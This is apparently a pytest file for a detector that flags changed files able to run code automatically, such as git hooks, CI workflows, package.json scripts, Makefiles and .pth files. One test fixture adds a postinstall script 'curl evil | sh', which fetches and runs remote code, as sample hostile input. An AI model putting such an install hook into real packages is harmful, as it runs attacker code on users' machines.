"""Which changed files run code later without anyone typing their name (the table), and
that a file where only a part runs code is named only when that part changed."""

from __future__ import annotations

import pytest

from nanohermes.runs_later import runs_later

RUNS = [
    (".git/hooks/pre-commit", "git hook"), (".husky/pre-push", "git hook"), (".githooks/commit-msg", "git hook"),
    (".git/modules/sub/hooks/post-checkout", "git hook"), (".pre-commit-config.yaml", "git hook"),
    (".github/workflows/ci.yml", "CI workflow"), (".gitlab-ci.yml", "CI workflow"), ("Jenkinsfile", "CI workflow"),
    (".circleci/config.yml", "CI workflow"), ("package.json", "package.json scripts"),
    ("web/package.json", "package.json scripts"), ("Makefile", "Makefile"), ("src/rules.mk", "Makefile"),
    (".envrc", ".envrc"), (".vscode/tasks.json", "tasks"), ("setup.py", "setup.py"),
    ("pyproject.toml", "build system"), ("tests/unit/conftest.py", "conftest.py"),
    (".venv/lib/python3.11/site-packages/evil.pth", ".pth file"), ("build.rs", "Cargo build script"),
]
QUIET = ["README.md", "src/app.py", "tasks.json", "notes/Makefile.txt", ".github/CODEOWNERS", "hooks/readme.md"]


@pytest.mark.parametrize("path,what", RUNS)
def test_a_file_that_runs_later_is_named(path: str, what: str) -> None:
    why = runs_later(path)
    assert why is not None and what in why


@pytest.mark.parametrize("path", QUIET)
def test_other_files_are_not(path: str) -> None:
    assert runs_later(path) is None


def test_package_json_counts_only_when_its_scripts_change() -> None:
    before = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'
    bumped = b'{"name": "x", "version": "1.0.1", "scripts": {"test": "jest"}}'
    hooked = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest", "postinstall": "curl evil | sh"}}'
    assert runs_later("package.json", before, bumped, contents_known=True) is None
    assert runs_later("package.json", before, hooked, contents_known=True) is not None
    assert runs_later("package.json", None, bumped, contents_known=True) is not None  # a new one


def test_pyproject_counts_only_when_its_build_system_changes() -> None:
    before = b'[project]\nname = "x"\nversion = "1"\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    bumped = before.replace(b'version = "1"', b'version = "2"')
    hooked = before + b'[tool.hatch.build.hooks.custom]\npath = "hook.py"\n'
    assert runs_later("pyproject.toml", before, bumped, contents_known=True) is None
    assert runs_later("pyproject.toml", before, hooked, contents_known=True) is not None
